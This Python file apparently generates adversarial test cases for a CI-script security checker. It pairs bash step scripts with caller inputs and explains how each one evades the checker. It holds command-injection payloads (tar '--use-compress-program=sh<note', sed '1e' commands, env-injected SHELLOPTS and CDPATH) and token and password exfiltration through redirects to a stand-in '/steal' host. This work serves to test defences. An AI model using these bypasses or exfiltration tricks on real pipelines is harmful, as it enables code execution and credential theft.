# Round thirty-three attacks (exec'd by gen_attacks.py; uses A, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), desc)
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)


LINE = {"type": "string", "minLength": 1, "maxLength": 200, "description": "line number of CHANGELOG.md to show"}
LINEI = {"type": "integer", "minimum": 1, "maximum": 50, "description": "line number of CHANGELOG.md"}
TXT = {"type": "string", "minLength": 1, "maxLength": 300, "description": "free text"}
NOTE = {"type": "string", "minLength": 1, "maxLength": 300, "description": "a note to bundle"}
MEMBER = {"type": "string", "minLength": 1, "maxLength": 100, "leading_dash": True, "description": "extra member name (an option-like name is refused by the guard)"}
NAME_LD = {"type": "string", "minLength": 1, "maxLength": 100, "pattern": "^[^/]+$", "leading_dash": True,
           "description": "name of an (empty) placeholder file to create; may start with '-' (it is given after the folder)"}
SEL = {"type": "string", "minLength": 1, "maxLength": 100, "pattern": "^[A-Za-z0-9_.!()|@+-]+$",
       "description": "which files to bundle: one name or pattern word (no blanks, no * ? [)"}
OVR = {"type": "string", "minLength": 1, "maxLength": 300, "description": "KEY=value overrides for this run"}
LABEL = {"type": "string", "minLength": 3, "maxLength": 200, "pattern": "^[A-Za-z][A-Za-z0-9_]*=[^=]+$",
         "description": "a KEY=value label published as a step output"}
RPATH = {"type": "string", "minLength": 1, "maxLength": 200, "pattern": "^[a-z0-9][a-z0-9/._-]*$",
         "description": "report path under the reports API"}
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
# the note the caller bundles: run as a script by `sh<note` (tar's compress program)
NOTEP = "echo HARBOR-PWNED-$((6*7)) > /tmp/harbor-r33-pwned"
TARX = "--use-compress-program=sh<note"
ENVP = "APP_NAME=demo; echo HARBOR-PWNED-$((6*7)) > /tmp/harbor-r33-pwned"
REDIR = "go/127.0.0.1/18765/steal"       # the author's API redirects /go/HOST/PORT/REST there
SRC = ("( set -a; . ./.env; echo \"APP_NAME=${APP_NAME-}\" )")

# ============================================================ 1. bash options given in the step's env:
ENVW = ("The step's `env:` is 'literal environment variables for this step' and the docs forbid there only a "
        "secret's name; `pass_env` refuses only BASH_ENV/ENV/ARG_*/HARBOR_*/STEP_*. bash imports SHELLOPTS and "
        "BASHOPTS from its environment at start (before line 1), so the options are on for the whole script "
        "although no `set`/`shopt` appears in its text. ")
R("env-shellopts-allexport-make", "step-env-bash-options", "Build the report for a target.",
  {"target": {"type": "string", "minLength": 1, "maxLength": 200, "description": "report target"}}, r'''
  TARGET=${ARG_target:-app}
  printf 'building the report for %s\n' "$TARGET"
  make -s report
''', {"target": 'x"; echo HARBOR-PWNED-$$((6*7)) > /tmp/harbor-r33-pwned; echo "'},
  ENVW + "`SHELLOPTS: allexport` is `set -a`: `TARGET=$ARG_target` is exported (rule 7 refuses caller data exported "
  "by `export`/`set -a`, but sees neither here). The checker's `make -s report` gets no caller data (TARGET is a "
  "plain shell variable in its reading) and runs in a folder no step writes, so make (no grammar) is allowed. "
  "make takes TARGET from its environment over `TARGET ?= app`, and the recipe `@echo \"report for $(TARGET)\"` "
  "splices it into /bin/sh: the caller's `\"; …; echo \"` runs.", env={"SHELLOPTS": "allexport"})

R("env-shellopts-allexport-psql", "step-env-bash-options", "Probe a replica, then count the orders on the primary.",
  {"host": {"type": "string", "pattern": "^[a-z0-9.-]+$", "minLength": 1, "maxLength": 100,
            "description": "replica host to probe (no password is sent to it)"}}, r'''
  if psql -w -h "$ARG_host" -p 18767 -U monitor -d postgres -Atc 'select 1' >/dev/null 2>&1; then
    echo "replica $ARG_host: up"
  else
    echo "replica $ARG_host: down"
  fi
  PGPASSWORD="$PGPASSWORD" psql -h 127.0.0.1 -p 15432 -U app -d app -Atc 'select count(*) from orders'
''', {"host": "127.0.0.1"},
  ENVW + "`SHELLOPTS: allexport` exports every assignment, the runtime's own first line included: the secret "
  "`PGPASSWORD` (a shell variable of the script, per the docs) becomes an environment variable of every command. "
  "The checker's reading: the probe `psql -h \"$ARG_host\"` gets no secret (a host is data without a password), "
  "and the secret goes only to psql's credential place `PGPASSWORD` with the author's host and port. libpq reads "
  "PGPASSWORD from its environment: the first psql sends the password to the caller's server.",
  head="secrets:\n  PGPASSWORD: {env: CI_PG_PASSWORD}\n", env={"SHELLOPTS": "allexport"})

R("env-bashopts-lastpipe-read", "step-env-bash-options", "Show a changelog line; an override in the run may replace it.",
  {"line": LINE, "alt": TXT}, r'''
  n=$ARG_line
  [[ $n =~ ^[0-9]+$ ]] || exit 1
  printf '%s\n' "$ARG_alt" > "$HARBOR_RUN_DIR/override"
  grep -m1 . "$HARBOR_RUN_DIR/override" | read -r n || true
  sed -n "${n}p" CHANGELOG.md
''', {"line": "3", "alt": SEDE},
  ENVW + "Reading (round 30) with `|| exit`: `n` is digits. `read` as the LAST stage of a pipeline runs in a "
  "subshell unless lastpipe is on, and the script has no `shopt -s lastpipe`; `BASHOPTS: lastpipe` turns it on "
  "from the environment: `read -r n` runs in this shell and gives sed the caller's `1e CMD #`.",
  env={"BASHOPTS": "lastpipe"})

R("env-bashopts-extglob-tar", "step-env-bash-options", "Bundle the caller's note with a selection of the run's files.",
  {"note": NOTE, "name": NAME_LD, "sel": SEL}, r'''
  d="$HARBOR_RUN_DIR/in"
  mkdir -p "$d"
  printf '%s\n' "$ARG_note" > "$d/note"
  touch -- "$d/$ARG_name"
  cd "$d"
  tar -cf ../bundle.tar $ARG_sel 2>/dev/null || true
  echo bundled
''', {"note": NOTEP, "name": TARX, "sel": "!(x)"},
  ENVW + "Round 29-30: an unquoted expansion is refused where a word may be an option when its value may hold "
  "`*`, `?` or `[`; `sel`'s pattern allows none of them and no blank, so `$ARG_sel` is one word that does not "
  "start with `-`: a tar member name. With `BASHOPTS: extglob`, `!(x)` is a pattern too: bash replaces it with "
  "every file of the folder but `x`, among them the caller's file `--use-compress-program=sh<note` (created "
  "after the folder, `\"$d/$ARG_name\"`, hence leading_dash). tar reads it as an option and runs the note.",
  env={"BASHOPTS": "extglob"})

R("env-cdpath-cd", "step-env-bash-options", "Show APP_NAME from the project's config/.env and the caller's overrides.",
  {"overrides": OVR}, r'''
  mkdir -p /dev/shm/r33-app/config
  printf '%s\n' "$ARG_overrides" > /dev/shm/r33-app/config/.env
  cd config >/dev/null
  ''' + SRC + r'''
''', {"overrides": ENVP},
  ENVW + "`CDPATH` in `env:` (a literal, the author's folder for shared run data). The checker reads `cd config` "
  "as the project's `config/` (it exists in the working folder, which no step writes), so `. ./.env` is the "
  "author's file. bash's cd searches CDPATH first: it enters /dev/shm/r33-app/config, where the script saved the "
  "caller's overrides (an absolute path: not the working folder), and sources them.",
  env={"CDPATH": "/dev/shm/r33-app"})

# ============================================================ 2. step outputs that shadow other names
X("step-output-shadows-exit", "step-output-shadow", "Label the run, run the unit tests, report.",
  {"label": LABEL},
  [("test", r'''
    printf '%s\n' "$ARG_label" >> "$HARBOR_STEP_OUTPUT"
    echo labelled
  ''', None),
   ("test_unit", r'''
    grep -c def src/util.py
  ''', None),
   ("report", r'''
    if (( STEP_test_unit_EXIT != 0 )); then
      echo "unit tests failed"
    else
      echo "unit tests passed"
    fi
  ''', None)],
  {"label": "unit_EXIT=" + ARITH},
  "The docs: `STEP_<name>_EXIT` is 'the exit code … the runtime's own', in the environment; each output is "
  "`STEP_<name>_<key>`, a shell variable assigned on the script's first line; keys are identifiers, only `EXIT` "
  "and `STATUS` reserved. Step `test` publishes the caller's label as an output (caller data, which the "
  "checker knows); its key `unit_EXIT` makes the shell variable `STEP_test_unit_EXIT`, the same name as step "
  "`test_unit`'s exit code. The shell assignment wins over the environment: `(( STEP_test_unit_EXIT != 0 ))`, "
  "a number to the checker, evaluates the caller's `x[$(cmd)]`.")

X("step-output-name-collision", "step-output-shadow", "Count, label, then show a changelog line.",
  {"line": LINEI, "label": LABEL},
  [("lint_count", r'''
    echo "n=$ARG_line" >> "$HARBOR_STEP_OUTPUT"
  ''', None),
   ("lint", r'''
    printf '%s\n' "$ARG_label" >> "$HARBOR_STEP_OUTPUT"
  ''', None),
   ("show", r'''
    sed -n "${STEP_lint_count_n}p" CHANGELOG.md
  ''', None)],
  {"line": 3, "label": "count_n=" + SEDE},
  "`STEP_lint_count_n` is step `lint_count`'s output `n`, written only as `echo \"n=$ARG_line\"` of a bounded "
  "integer: digits, by the output model. But step names are identifiers with `_`, so step `lint`'s output "
  "`count_n` (the caller's label) is the same shell variable; it is assigned after (its step ran later) and "
  "wins: sed gets `1e CMD #`.")

X("step-output-forged-heredoc", "step-output-forged-key", "Record a line number and release notes, then show the line.",
  {"line": LINEI, "notes": {"type": "string", "multiline": True, "maxLength": 2000, "description": "release notes"}},
  [("s", r'''
    echo "n=$ARG_line" >> "$HARBOR_STEP_OUTPUT"
    printf 'notes<<EOF\n%s\nEOF\n' "$ARG_notes" >> "$HARBOR_STEP_OUTPUT"
  ''', None),
   ("show", r'''
    sed -n "${STEP_s_n}p" CHANGELOG.md
  ''', None)],
  {"line": 3, "notes": "fixed the parser\nEOF\nn=" + SEDE},
  "The output model: `n` holds exactly what `echo \"n=$v\"` prints of a bounded integer, and `printf 'a=%s\\n…'` "
  "to the step output is read key by key (round 15), `notes` being the caller's. The docs' own multi-line form "
  "`notes<<EOF` ends at the first line `EOF`: the caller's notes end it early and add a line `n=1e CMD #`; a "
  "key written twice keeps its last line, so `STEP_s_n` is the caller's sed command.")

X("step-output-forged-multiline", "step-output-forged-key", "Record a line number and a message, then show the line.",
  {"line": LINEI, "msg": {"type": "string", "multiline": True, "maxLength": 2000, "description": "a message"}},
  [("s", r'''
    echo "n=$ARG_line" >> "$HARBOR_STEP_OUTPUT"
    echo "msg=$ARG_msg" >> "$HARBOR_STEP_OUTPUT"
  ''', None),
   ("show", r'''
    sed -n "${STEP_s_n}p" CHANGELOG.md
  ''', None)],
  {"line": 3, "msg": "hello\nn=" + SEDE},
  "As the previous one with the plainest form: `echo \"msg=$ARG_msg\"` of a `multiline: true` arg. Each "
  "statement prints one `key=` (n: digits, msg: the caller's), but the file is read by lines: the message's "
  "second line is `n=1e CMD #`, which replaces `n`.")

X("step-output-symlink-alias", "step-output-forged-key", "Record a line number and a comment, then show the line.",
  {"line": LINEI, "comment": TXT},
  [("s", r'''
    notes="$HARBOR_RUN_DIR/notes.txt"
    ln -sf -- "$HARBOR_STEP_OUTPUT" "$notes"
    echo "n=$ARG_line" >> "$HARBOR_STEP_OUTPUT"
    printf '%s\n' "$ARG_comment" >> "$notes"
  ''', None),
   ("show", r'''
    sed -n "${STEP_s_n}p" CHANGELOG.md
  ''', None)],
  {"line": 3, "comment": "n=" + SEDE},
  "The only statement appending to `$HARBOR_STEP_OUTPUT` prints `n=` and a bounded integer; the caller's comment "
  "goes to a file of the run directory (where the docs say caller data belongs), through a variable set once. "
  "`ln` (coreutils, no caller data) made that file a link to the step output: the comment line `n=1e CMD #` is "
  "an output line, and the last `n` wins.")

# ============================================================ 3. curl reads configuration the checker does not see
CURLW = ("The secret reaches curl at a credential place, the URL's scheme and host are the author's and the caller "
         "only chooses the path; no `-L` and no `-K` is on the command line, so curl is not a program that follows "
         "redirects (round 18) and no config file is read (round 28). ")
R("curlrc-location", "curl-config-unseen", "Fetch a report from the reports API.",
  {"path": RPATH}, r'''
  printf '%s\n' 'location' 'max-redirs = 3' 'silent' > "$HOME/.curlrc"
  printf 'X-Api-Key: %s\n' "$API_TOKEN" |
    curl -fsS --header @- -o "$HARBOR_RUN_DIR/report.json" "http://127.0.0.1:18766/reports/$ARG_path" || true
  echo fetched
''', {"path": "x/../../" + REDIR}, CURLW + "But curl reads `~/.curlrc` unasked, and the script wrote one (the author's "
  "text, no caller data, so no H004) with `location`: curl follows the author API's redirect (`/reports/x/../../go/…` is "
  "`/go/HOST/PORT/…`) to the caller's host and sends `X-Api-Key` (only Authorization and Cookie stay behind).",
  head=SEC)

R("curlrc-location-trusted", "curl-config-unseen", "Fetch a report from the reports API.",
  {"path": RPATH}, r'''
  cat > ~/.curlrc <<'EOF'
  location-trusted
  silent
  EOF
  curl -fsS -H "Authorization: Bearer $API_TOKEN" -o "$HARBOR_RUN_DIR/report.json" \
    "http://127.0.0.1:18766/reports/$ARG_path" || true
  echo fetched
''', {"path": "x/../../" + REDIR}, CURLW + "The docs' own form `-H \"Authorization: Bearer $T\"` (a header curl keeps to the "
  "first host even with `-L`). The script's `~/.curlrc` (a literal here-document) says `location-trusted`: "
  "curl follows the redirect AND sends the Authorization header to the caller's host.", head=SEC)

R("curl-config-dash-L", "curl-config-unseen", "Fetch a report from the reports API.",
  {"path": RPATH}, r'''
  cfg="$HARBOR_RUN_DIR/curl.cfg"
  printf 'header = "X-Api-Key: %s"\n-L\n' "$API_TOKEN" > "$cfg"
  curl -fsS -K "$cfg" -o "$HARBOR_RUN_DIR/report.json" "http://127.0.0.1:18766/reports/$ARG_path" || true
  echo fetched
''', {"path": "x/../../" + REDIR}, "Round 28: a curl config beside a secret and a caller URL is accepted when every line is "
  "one printf of the author's text and secrets, the file named no other way, and no line is `location` or "
  "`location-trusted`. This one printf's lines are `header = …` and `-L`: curl's config takes options with "
  "their dashes too, and `-L` is `--location`. curl follows the redirect and sends X-Api-Key to the caller.",
  head=SEC)

# ============================================================ 4. another program that follows redirects with a secret
R("git-redirect-extraheader", "secret-redirect-git", "List the branches of a repository on the company's Git server.",
  {"repo": {"type": "string", "pattern": "^[a-z0-9][a-z0-9/._-]*$", "minLength": 1, "maxLength": 200,
            "description": "repository path on the Git server"}}, r'''
  GIT_TERMINAL_PROMPT=0 git -c http.extraHeader="PRIVATE-TOKEN: $GITLAB_TOKEN" \
    ls-remote --heads "http://127.0.0.1:18766/$ARG_repo" > "$HARBOR_RUN_DIR/heads.txt" 2>/dev/null || true
  wc -l < "$HARBOR_RUN_DIR/heads.txt"
''', {"repo": REDIR}, "The secret's `programs: [git]` is the author's word that git never prints it; the URL's "
  "scheme and host are the author's (`http://127.0.0.1:18766/`), the caller chooses the repository's path. The "
  "docs refuse a secret given to a program that follows redirects while the caller chooses the path, naming wget "
  "and curl -L; git follows redirects too (`http.followRedirects=initial`, the default) and libcurl sends "
  "`http.extraHeader` headers other than Authorization/Cookie to the new host: `PRIVATE-TOKEN` reaches the caller.",
  head="secrets:\n  GITLAB_TOKEN: {env: CI_GITLAB_TOKEN, programs: [git]}\n")

# ============================================================ 5. cd into a folder the checker does not see
CDW = ("Round 28-30: a `cd` moves the commands after it; `. ./.env` reads the `.env` of the folder cd names. "
       "The caller's overrides are saved as `.env` in the run directory. ")
R("cdpath-in-script", "cd-unseen-target", "Show APP_NAME from config/.env, looked up in the run's folders first.",
  {"overrides": OVR}, r'''
  mkdir -p "$HARBOR_RUN_DIR/config"
  printf '%s\n' "$ARG_overrides" > "$HARBOR_RUN_DIR/config/.env"
  CDPATH="$HARBOR_RUN_DIR"
  cd config >/dev/null
  ''' + SRC + r'''
''', {"overrides": ENVP}, CDW + "`cd config` names the project's `config/` (it exists in the working folder, no "
  "step writes there). But the script set `CDPATH` (a shell variable of the author's, not code-selecting by any "
  "rule, and not caller data): bash looks in CDPATH first and enters the run's `config/`, sourcing the caller's file.")

R("cdable-vars", "cd-unseen-target", "Show APP_NAME from the work folder's .env.",
  {"overrides": OVR}, r'''
  work="$HARBOR_RUN_DIR/work"
  mkdir -p "$work"
  printf '%s\n' "$ARG_overrides" > "$work/.env"
  shopt -s cdable_vars
  cd work
  ''' + SRC + r'''
''', {"overrides": ENVP}, CDW + "`cd work` names `./work` of the working folder (no step writes it). With "
  "`shopt -s cdable_vars`, a cd operand that is not a folder is the NAME of a variable holding one: bash enters "
  "`$work`, the run's folder, and `. ./.env` sources the caller's text.")

R("cd-in-function", "cd-unseen-target", "Show APP_NAME of the run's folder.",
  {"overrides": OVR}, r'''
  enter_run() { cd "$HARBOR_RUN_DIR"; }
  printf '%s\n' "$ARG_overrides" > "$HARBOR_RUN_DIR/.env"
  enter_run
  ''' + SRC + r'''
''', {"overrides": ENVP}, CDW + "Here the `cd` stands in a function body, where no command follows it; the "
  "function runs in this shell, so its `cd` moves the caller's commands after `enter_run`: `. ./.env` sources "
  "the caller's file.")

# ============================================================ 6. guards that do not hold
R("guard-fallback-prefix", "guard-not-holding", "Show a changelog line.",
  {"line": LINE}, r'''
  n=$ARG_line
  [[ $n =~ ^[0-9]+$ ]] || n=1 echo "not a line number: showing line 1" >&2
  sed -n "${n}p" CHANGELOG.md
''', {"line": SEDE}, "Round 30-31: `[[ $n =~ ^[0-9]+$ ]] || n=0` leaves `n` digits either way, and the fallback "
  "must be `n=DIGITS` itself. Here it is `n=1` — as the prefix of a command: bash assigns it in `echo`'s "
  "environment only, and `n` keeps the caller's `1e CMD #` for sed.")

R("guard-exit-in-pipeline", "guard-not-holding", "Show a changelog line.",
  {"line": LINE}, r'''
  n=$ARG_line
  [[ $n =~ ^[0-9]+$ ]] || { echo "not a line number: nothing to show"; exit 0; } | tee -a "$HARBOR_RUN_DIR/errors.log"
  sed -n "${n}p" CHANGELOG.md
''', {"line": SEDE}, "Round 19-22: a guard that leaves (`|| exit`, `|| { …; exit 1; }`) makes the name digits "
  "below it; round 21 refused `continue`/`break` in a pipeline stage, not `exit`. The group is a pipeline's first "
  "stage, a subshell: its `exit 0` leaves only that, tee succeeds, and sed gets `1e CMD #`.")

R("guard-on-length", "guard-on-part", "Show a changelog line (short values only).",
  {"line": LINE}, r'''
  n=$ARG_line
  [[ ${#n} =~ ^[0-9]{1,2}$ ]] || exit 1
  sed -n "${n}p" CHANGELOG.md
''', {"line": SEDE}, "Round 30: a test of a name with an anchored regex that bash and Python read alike gives the "
  "name that regex's texts. The test here is on `${#n}`, `n`'s LENGTH (under 100 characters): any text passes, "
  "and sed gets `1e CMD #`.")

R("guard-on-prefix", "guard-on-part", "Show a changelog line (the value must start with its number).",
  {"line": LINE}, r'''
  n=$ARG_line
  [[ ${n%%[!0-9]*} =~ ^[0-9]+$ ]] || exit 1
  sed -n "${n}p" CHANGELOG.md
''', {"line": SEDE}, "As above, the guard tests `${n%%[!0-9]*}`, the digits `n` starts with: `1e CMD #` passes "
  "(`1`), and `n` itself reaches sed.")

# ============================================================ 7. regexes bash and Python do not read alike
R("regex-backtick-anchor", "regex-gnu-anchor", "Bundle the caller's note with one extra member.",
  {"note": NOTE, "member": MEMBER}, r'''
  m=$ARG_member
  re='^\`[a-z0-9_=<-]+$'
  [[ $m =~ $re ]] || exit 1
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/note"
  cd "$HARBOR_RUN_DIR"
  tar -cf bundle.tar "$m" note 2>/dev/null || true
  echo bundled
''', {"note": NOTEP, "member": TARX}, "Round 30: anchored `^…$`, no `|`, no `.`, no POSIX class, no bracket "
  "escape, and the one backslash is before a backtick, not a letter. Python reads `\\`` as a literal backtick: "
  "every text starts with `` ` ``, never `-`. glibc's regex (bash's `=~`, the regex kept in a variable so bash "
  "hands it over as written) reads `\\`` as the GNU start-of-buffer anchor: the texts may start with `-`, and "
  "`--use-compress-program=sh<note` reaches tar.")

# ============================================================ 8. IFS set where the checker does not look
R("ifs-prefix-function", "ifs-hidden-write", "Bundle the caller's note with a comma list of members.",
  {"note": NOTE, "members": {"type": "string", "pattern": "^[A-Za-z0-9_.,<=-]+$", "minLength": 1, "maxLength": 200,
                             "description": "comma-separated member names"}}, r'''
  bundle() {
    tar -cf "$HARBOR_RUN_DIR/bundle.tar" $members 2>/dev/null || true
  }
  members=$ARG_members
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/note"
  cd "$HARBOR_RUN_DIR"
  IFS=, bundle
  echo bundled
''', {"note": NOTEP, "members": "note," + TARX}, "Round 27-31: an unquoted expansion may split at any character "
  "where the script sets IFS, except before one `read`. This `IFS=,` is a prefix too, but of a FUNCTION: bash "
  "keeps it for the function's whole body, where `$members` splits at the comma into `note` and "
  "`--use-compress-program=sh<note`.")

R("ifs-default-assign", "ifs-hidden-write", "Bundle the caller's note with a list of members.",
  {"note": NOTE, "members": {"type": "string", "pattern": "^[A-Za-z0-9_.,<=-]+$", "minLength": 1, "maxLength": 200,
                             "description": "member names"}}, r'''
  unset IFS
  : "${IFS=,}"
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/note"
  cd "$HARBOR_RUN_DIR"
  tar -cf bundle.tar $ARG_members 2>/dev/null || true
  echo bundled
''', {"note": NOTEP, "members": "note," + TARX}, "Round 31 lists `${IFS:=…}` among the writes of IFS. "
  "`${IFS=…}` (no colon) assigns too when IFS is unset, which `unset IFS` (default splitting) made it: IFS is `,` "
  "and `$ARG_members` (no blank, no glob character) splits into a tar option.")

# ============================================================ 9. globs without * ? [
R("extglob-in-script", "glob-extglob", "Bundle the caller's note with a selection of the run's files.",
  {"note": NOTE, "name": NAME_LD, "sel": SEL}, r'''
  shopt -s extglob
  d="$HARBOR_RUN_DIR/in"
  mkdir -p "$d"
  printf '%s\n' "$ARG_note" > "$d/note"
  touch -- "$d/$ARG_name"
  cd "$d"
  tar -cf ../bundle.tar $ARG_sel 2>/dev/null || true
  echo bundled
''', {"note": NOTEP, "name": TARX, "sel": "!(x)"},
  "Round 29-30 refuse an unquoted expansion that may hold `*`, `?` or `[` where a word may be an option. With "
  "`shopt -s extglob` (set at run time: no extglob pattern in the script's text, so bash's parse is unaffected), "
  "`!(…)`, `@(…)`, `+(…)` are patterns too: `!(x)` lists the folder, where the caller's placeholder file "
  "`--use-compress-program=sh<note` becomes tar's option.")

# ============================================================ 10. jq counts
R("jq-count-comment", "jq-count-not-number", "Show the changelog line each report's count names.",
  {"report": {"type": "string", "minLength": 2, "maxLength": 300, "description": "a JSON report"}}, r'''
  mkdir -p "$HARBOR_RUN_DIR/reports"
  printf '%s\n' "$ARG_report" > "$HARBOR_RUN_DIR/reports/in.json"
  for f in "$HARBOR_RUN_DIR"/reports/*.json; do
    n=$(jq -r '.items # | length' "$f")
    sed -n "${n}p" CHANGELOG.md
  done
''', {"report": '{"items": "' + SEDE + '"}'}, "Round 30/32: a jq count (`… | length`) is a number, unless the "
  "program defines or includes something. This program's text ends `| length` and defines nothing, but jq reads "
  "`#` to the end of the line as a comment: the program is `.items`, the caller's string, for sed.")

# ============================================================ 11. array items, read back by `read -r`
R("items-read-strips-blank", "items-read-strips", "Bundle the caller's note with extra members.",
  {"note": NOTE, "members": {"type": "array", "maxItems": 5,
                             "items": {"type": "string", "minLength": 1, "maxLength": 100},
                             "description": "extra member names"}}, r'''
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/note"
  cd "$HARBOR_RUN_DIR"
  while read -r m; do
    tar -cf bundle.tar note "$m" 2>/dev/null || true
  done < <(jq -r '.[]' <<< "$ARG_members")
  echo bundled
''', {"note": NOTEP, "members": [" " + TARX]}, "Round 28: in a `read -r` loop over `jq -r '.[]' <<< \"$ARG_xs\"`, "
  "each element is one item, as the `items` schema says: a string that does not start with `-` (no "
  "leading_dash). The item ` --use-compress-program=sh<note` starts with a blank, so it passes; `read -r m` "
  "(default IFS, one name) strips leading blanks, and `m` starts with `-`: a tar option.")

# ============================================================ 12. a programs: entry over a shipped grammar
R("programs-widen-tar", "programs-widen-shipped", "Bundle the caller's note with the chosen compressor.",
  {"note": NOTE, "compressor": {"type": "string", "pattern": "^[a-z0-9 <.]+$", "minLength": 1, "maxLength": 40,
                                "description": "compressor command (gzip, xz -9, zstd …)"}}, r'''
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/note"
  cd "$HARBOR_RUN_DIR"
  tar -c -I "$ARG_compressor" -f bundle.tar note 2>/dev/null || true
  echo bundled
''', {"note": NOTEP, "compressor": "sh<note"}, "The docs: a shipped grammar is NARROWED by a declared one, never "
  "widened. The export's `programs: tar` entry lists `-I` among `options_with_value` (values that are data). "
  "tar's shipped grammar knows `-I`/`--use-compress-program` as a program to run; if the declared entry is taken "
  "for tar's options, `-I \"$ARG_compressor\"` is data, and tar runs the caller's `sh<note`.",
  head="programs:\n  tar: " + J({"options_with_value": ["-f", "-I", "-C"], "flags": ["-c"],
                                  "runs_operands": False, "stdin": "data"}) + "\n")

# ============================================================ 13. a shipped grammar's option value that is a program
R("sort-compress-program", "grammar-code-option", "Sort the caller's lines with a large sample, with temp-file compression.",
  {"note": NOTE, "compressor": {"type": "string", "pattern": "^[a-z0-9]+$", "minLength": 1, "maxLength": 20,
                                "description": "temp-file compressor (gzip, lzop, zstd)"}}, r'''
  printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/in.txt"
  seq 1 30000 | sed 's/^/# sample /' >> "$HARBOR_RUN_DIR/in.txt"
  sort -S 64K -T "$HARBOR_RUN_DIR" --compress-program="$ARG_compressor" "$HARBOR_RUN_DIR/in.txt" \
    > "$HARBOR_RUN_DIR/sorted.txt" 2>/dev/null || true
  wc -l < "$HARBOR_RUN_DIR/sorted.txt"
''', {"note": NOTEP, "compressor": "sh"}, "A value attached to a long option is no option (H009), and coreutils "
  "have grammars; `compressor` is one word of letters. GNU sort runs `--compress-program=PROG` for its temporary "
  "files, with the data on its standard input: PROG `sh` runs the sorted lines, the caller's note among them. "
  "Unless sort's grammar classes that value as a program, it is a data position.")

# ============================================================ 14. associative keys through a name reference
R("nameref-keys", "keys-via-nameref", "Show the changelog lines the caller's words name.",
  {"words": {"type": "array", "maxItems": 10, "items": {"type": "string", "minLength": 1, "maxLength": 100},
             "description": "words to look up"}}, r'''
  declare -A seen=()
  while read -r w; do
    seen["$w"]=1
  done < <(jq -r '.[]' <<< "$ARG_words")
  show_lines() {
    local -n tbl=$1
    local i
    for i in "${!tbl[@]}"; do
      sed -n "${i}p" CHANGELOG.md
    done
  }
  show_lines seen
''', {"words": [SEDE]}, "Rule 6: the caller's words may be keys of `seen`, proven associative by its "
  "`declare -A` at the top. Round 28: `for i in \"${!a[@]}\"` of an array no declaration makes associative binds "
  "`i` to whole numbers. `tbl` has no `-A` declaration, but it is a NAME REFERENCE (`local -n`, bash's way to "
  "pass an array to a function) to `seen`: its keys are the caller's words, and sed gets `1e CMD #`.")
